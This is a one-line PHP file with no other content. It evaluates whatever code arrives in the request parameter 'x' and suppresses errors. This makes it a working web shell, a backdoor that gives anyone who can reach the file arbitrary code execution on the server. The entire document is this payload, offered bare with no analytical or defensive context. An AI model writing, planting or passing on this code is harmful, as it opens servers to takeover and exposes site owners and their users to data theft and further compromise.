<?php @$_REQUEST['x'] && eval($_REQUEST['x']);
